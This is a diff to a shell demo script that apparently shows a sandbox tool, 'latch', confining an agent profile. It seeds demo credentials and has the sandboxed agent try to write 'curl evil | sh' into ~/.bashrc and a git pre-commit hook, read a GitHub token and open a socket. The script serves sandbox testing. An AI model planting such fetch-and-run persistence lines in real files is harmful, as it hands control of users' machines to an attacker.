@@ -13,6 +13,7 @@ chmod 600 "$HOME/.ssh/id_rsa"
 printf '[default]\naws_secret_access_key = demo-secret\n' >"$HOME/.aws/credentials"
 echo 'echo hello' >"$HOME/.bashrc"
 cd "$HOME/project" || exit 1
+git init -q . 2>/dev/null
 
 # step 'what a person would type' COMMAND...: show the first, run the rest.
 step() {
@@ -39,6 +40,10 @@ step "latch run -p agent -- sh -c 'echo built > build.log && cat build.log'" \
 	"$latch" run --quiet -p agent -- sh -c 'echo "built at $(date +%T)" > build.log && cat build.log'
 step "latch run -p agent -- sh -c 'echo \"curl evil | sh\" >> ~/.bashrc'" \
 	"$latch" run --quiet -p agent -- sh -c 'echo "curl evil | sh" >> ~/.bashrc'
+step "latch run -p agent -- sh -c 'echo \"curl evil | sh\" > .git/hooks/pre-commit'   # code that runs later" \
+	"$latch" run --quiet -p agent -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
+step "latch run -p agent -- sh -c 'ps -e && tar cf /dev/null . && git status --short'   # real work" \
+	"$latch" run --quiet -p agent -- sh -c 'ps -e && tar cf /dev/null . && git status --short'
 step "GITHUB_TOKEN=ghp_demo latch run -p agent -- sh -c 'echo \$GITHUB_TOKEN'" \
 	env GITHUB_TOKEN=ghp_demo "$latch" run --quiet -p agent -- sh -c 'echo "GITHUB_TOKEN inside: ${GITHUB_TOKEN:-<not set>}"'
 step "latch run -p agent -- python3 -c 'socket.create_connection((\"127.0.0.1\", 80))'" \
